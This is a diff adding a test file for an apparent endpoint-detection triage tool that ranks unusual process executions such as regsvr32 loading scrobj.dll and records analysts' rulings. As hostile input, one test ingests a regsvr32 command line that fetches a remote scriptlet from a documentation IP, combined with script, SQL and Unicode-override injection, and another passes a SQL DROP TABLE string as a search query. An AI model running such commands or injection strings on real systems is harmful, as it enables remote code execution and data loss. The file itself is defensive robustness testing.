@@ -1,0 +1,202 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import type { Scope } from '@/lib/pipeline/actor'
+import { closePool, pool } from '@/lib/store/pool'
+import { listAuditEntries, parseAuditRequest } from '@/lib/store/screens/audit'
+import { parseDeviationRequest } from '@/lib/store/screens/deviations/filter'
+import { listDeviationChanges, listDeviationRulings } from '@/lib/store/screens/deviations/history'
+import { listHostsOfDeviation } from '@/lib/store/screens/deviations/hosts'
+import { findJudgement } from '@/lib/store/screens/deviations/judgement'
+import {
+  countDeviationFacets,
+  findDeviationDetail,
+  listDeviations,
+} from '@/lib/store/screens/deviations/list'
+import type { SearchParams } from '@/lib/store/screens/table-request'
+import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
+import { assignDeviation } from './assign-deviation'
+import { ingestExamples } from './ingest/example-use'
+import { recompute } from './recompute/recompute'
+import { createTriageExamples, forgetTriage, itemOf, judge, type TriageExamples } from './triage-examples'
+
+let database: TestDatabase
+let examples: TriageExamples
+const ALL: Scope = { kind: 'all' }
+const inGroup = (): Scope => ({ kind: 'groups', groupIds: [examples.groupId] })
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  process.env['APP_DATABASE_URL'] = database.appUrl
+  examples = await createTriageExamples()
+})
+afterAll(async () => {
+  await closePool()
+  await database.drop()
+})
+beforeEach(forgetTriage)
+
+const list = (params: SearchParams, scope: Scope = ALL) =>
+  listDeviations(scope, parseDeviationRequest(params))
+const titles = async (params: SearchParams) =>
+  (await list(params)).rows.map(({ title }) => title.split('\\').at(-1))
+const detailOf = async (words: string, scope: Scope = ALL) => {
+  const found = await findDeviationDetail(scope, (await itemOf(words)).id)
+  if (found === null) throw new Error(words)
+  return found
+}
+
+describe('the queue', () => {
+  test('shows open items by score, each pattern once with its hits summed up', async () => {
+    const { rows, total } = await list({})
+    expect(total).toBe(rows.length)
+    expect(rows.map(({ scoreMillibits }) => scoreMillibits)).toEqual(
+      rows.map(({ scoreMillibits }) => scoreMillibits).toSorted((a, b) => (b ?? 0) - (a ?? 0)),
+    )
+    const driver = rows.find(({ title }) => title.includes('public'))
+    expect(driver).toMatchObject({
+      slug: 'regsvr32.exe',
+      hosts: 3,
+      executions: 9,
+      state: 'open',
+      onlyHost: null,
+    })
+    expect(driver?.reasons[0]?.millibits).toBeGreaterThan(0)
+  })
+  test('counts only what shows on hosts in scope', async () => {
+    expect((await list({ q: 'public' }, inGroup())).rows).toMatchObject([{ hosts: 2, executions: 8 }])
+    expect((await list({}, { kind: 'groups', groupIds: [0] })).rows).toEqual([])
+  })
+  test('every filter narrows, and each facet counts what its filter would show', async () => {
+    await assignDeviation(examples.responder, {
+      ...(await itemOf('scrobj')),
+      assigneeId: examples.responder.accountId,
+    })
+    for (const params of [
+      { q: 'scrobj' },
+      { host: 'ws-1.example', reason: 'scriptlet' },
+      { assignee: examples.responder.accountId },
+    ])
+      expect(await titles(params)).toEqual(['scrobj.dll'])
+    expect(await titles({ host: 'ws-3.example' })).toEqual(['driver.dll'])
+    expect(await titles({ binary: 'mshta.exe' })).toEqual([])
+    const facets = await countDeviationFacets(ALL, parseDeviationRequest({}))
+    for (const [name, values] of Object.entries(facets))
+      for (const { value, count } of values)
+        expect((await list({ [name]: value })).total, `${name}=${value}`).toBe(count)
+  })
+  test('an item that is explained leaves the queue, and is found with its numbers under its state', async () => {
+    await judge(examples.responder, 'public', { to: 'expected' })
+    expect(await titles({ q: 'public' })).toEqual([])
+    expect((await list({ q: 'public', state: 'expected' })).rows).toMatchObject([
+      { hosts: 3, executions: 9, scoreMillibits: null, again: false },
+    ])
+  })
+  test('what was explained in one place and shows in another waits again', async () => {
+    await judge(examples.groupResponder, 'public', { to: 'expected', scope: 'groups' })
+    expect((await list({ q: 'public' })).rows).toMatchObject([{ state: 'expected', again: true, hosts: 1 }])
+    expect((await list({ q: 'public', state: 'expected' })).total).toBe(0)
+  })
+  test('any text from the URL is a search, never a failure', async () => {
+    for (const text of ["'; DROP TABLE host --", '%', '\\', '\u0000', '\u202e'])
+      await expect(
+        list({ q: text, host: text, state: text, assignee: text, score: text }),
+      ).resolves.toBeDefined()
+    expect(await findDeviationDetail(ALL, '99999999999999999999')).toBeNull()
+    expect(await findDeviationDetail(ALL, 'x')).toBeNull()
+  })
+})
+
+describe('one item', () => {
+  test('is explained as of the day of its highest hit, and its reasons add up to its score', async () => {
+    const { item, deviation } = await detailOf('scrobj')
+    const judgement = await findJudgement(ALL, deviation)
+    expect(judgement).toMatchObject({
+      host: 'ws-1.example',
+      day: '2026-01-07',
+      explained: false,
+      group: 'Workstations',
+    })
+    expect(judgement?.score.scoreMillibits).toBe(item.scoreMillibits)
+    const sum = judgement?.score.reasons.reduce((total, { millibits }) => total + millibits, 0)
+    expect(sum).toBe(item.scoreMillibits)
+    expect(judgement?.explanation.sentence).toContain('regsvr32.exe')
+    expect(judgement?.executions).toHaveLength(1)
+    // the ordinary use of earlier days is what the host normally does
+    const pattern = judgement?.features.find(({ feature }) => feature === 'pattern')
+    expect(pattern?.host?.[0]?.value).toContain('plain.dll')
+  })
+  test('that a ruling explains still says what it would score', async () => {
+    const before = await findJudgement(ALL, (await detailOf('scrobj')).deviation)
+    await judge(examples.responder, 'scrobj', { to: 'authorised-test', scope: 'hosts', until: '2026-01-07' })
+    const after = await findJudgement(ALL, (await detailOf('scrobj')).deviation)
+    expect(after?.explained).toBe(true)
+    expect(after?.score).toEqual(before?.score)
+  })
+  test('lists the hosts in scope behind it, deviating or explained', async () => {
+    const { deviation } = await detailOf('public')
+    const hosts = async (scope: Scope) =>
+      (await listHostsOfDeviation(scope, (await detailOf('public')).deviation)).hosts
+    expect(await hosts(ALL)).toHaveLength(3)
+    expect((await listHostsOfDeviation(inGroup(), deviation)).total).toBe(2)
+    expect((await hosts(ALL))[0]).toMatchObject({ users: ['CORP\\ada'], explained: false })
+    await judge(examples.groupResponder, 'public', { to: 'expected', scope: 'groups' })
+    expect((await hosts(ALL)).map(({ host, explained }) => [host, explained]).sort()).toEqual([
+      ['ws-1.example', true],
+      ['ws-2.example', true],
+      ['ws-3.example', false],
+    ])
+  })
+  test('says what it taught and who did it', async () => {
+    await judge(examples.responder, 'public', {
+      to: 'expected',
+      scope: 'groups',
+      until: '2026-06-30',
+      note: 'driver',
+    })
+    const { id } = await itemOf('public')
+    expect(await listDeviationRulings(ALL, id)).toMatchObject([
+      { effect: 'expected', scope: ['Workstations'], from: '2026-01-05', until: '2026-06-30' },
+      { scope: ['ws-3.example'] },
+    ])
+    expect(await listDeviationRulings(inGroup(), id)).toMatchObject([
+      { scope: ['Workstations'] },
+      { scope: null },
+    ])
+    expect((await listDeviationChanges(id))[0]).toMatchObject({ actor: 'ada', action: 'deviation-triaged' })
+  })
+})
+
+test('a pattern of text that tries to break out is an item like any other', async () => {
+  const hostile =
+    'regsvr32 /s /i:http://203.0.113.9/<script>alert(1)</script>\u202egnp.sct scrobj.dll \'"); --'
+  await ingestExamples(pool(), [
+    {
+      host: 'ws-9.example',
+      at: '2026-01-09T10:00:00Z',
+      image: 'C:\\Windows\\System32\\regsvr32.exe',
+      commandLine: hostile,
+    },
+  ])
+  await recompute(pool())
+  const { rows } = await list({ host: 'ws-9.example' })
+  expect(rows).toHaveLength(1)
+  expect(
+    await findJudgement(ALL, (await findDeviationDetail(ALL, rows[0]?.id ?? ''))?.deviation ?? never()),
+  ).not.toBeNull()
+})
+
+function never(): never {
+  throw new Error('not found')
+}
+
+test('the audit log is read newest first, page by page, by actor, action and day', async () => {
+  await judge(examples.responder, 'public', { to: 'flagged', note: 'needle_in' })
+  const read = (params: SearchParams) => listAuditEntries(parseAuditRequest(params))
+  const all = (await read({})).rows
+  expect(all.length).toBeGreaterThan(1)
+  expect(all.map(({ id }) => Number(id))).toEqual(all.map(({ id }) => Number(id)).toSorted((a, b) => b - a))
+  expect((await read({ q: 'needle_in' })).rows).toMatchObject([{ actor: 'ada', action: 'deviation-triaged' }])
+  expect((await read({ q: 'needleXin' })).rows).toEqual([])
+  expect((await read({ action: 'account-created', actor: 'test' })).rows.length).toBeGreaterThan(0)
+  expect((await read({ to: '2000-01-01' })).rows).toEqual([])
+  expect((await read({ after: all[0]?.id ?? '' })).rows[0]).toEqual(all[1])
+})
